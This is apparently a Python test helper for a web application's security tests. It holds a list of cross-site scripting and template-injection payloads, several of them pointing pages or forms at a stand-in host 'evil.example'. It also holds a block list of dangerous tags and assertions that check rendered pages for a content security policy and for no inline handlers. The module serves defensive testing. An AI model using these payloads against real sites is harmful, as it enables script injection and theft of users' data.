"""Pages as tests look at them, and what hostile reports hold."""

import re
from html.parser import HTMLParser

XSS = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</mark><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<style>@import'//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x",
    "{{ 7 * 1283 }}{% for x in y %}${7*1283}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<b>\u2028\ufeff<img src=x>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "🚢<x onclick=alert(1)>🌊",
    "<ScRiPt\x0c>alert(1)</sCrIpT\x0b>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<img src=`x`onerror=alert(1)>",
)
ADDRESSES = ("href", "src", "action", "formaction")
NEVER = {"iframe", "object", "embed", "base", "style", "math", "foreignobject", "img", "audio", "video"}


class Page(HTMLParser):
    """What a page is made of."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.words, self.elements = [], [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.elements.append((tag, attrs))
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data):
        self.words.append(data)


def csrf(web, path="/"):
    """What a form of a page carries."""
    return re.search(r'name="csrf" value="([0-9a-f]+)"', web.get(path).text)[1]


def harmless(response):
    """The page, which runs, loads and sends nothing but what is ours."""
    page = Page(response.text)
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert not NEVER & set(page.tags)
    scripts = [dict(attrs) for tag, attrs in page.elements if tag == "script"]
    assert all(one["src"].startswith("/static/") for one in scripts)
    for _, name, value in page.attributes:
        assert not name.startswith("on")
        assert name not in ("style", "srcdoc", "http-equiv", "xlink:href")
        assert name not in ADDRESSES or re.match(r"/(?!/)|#|\?", value), value
    return page
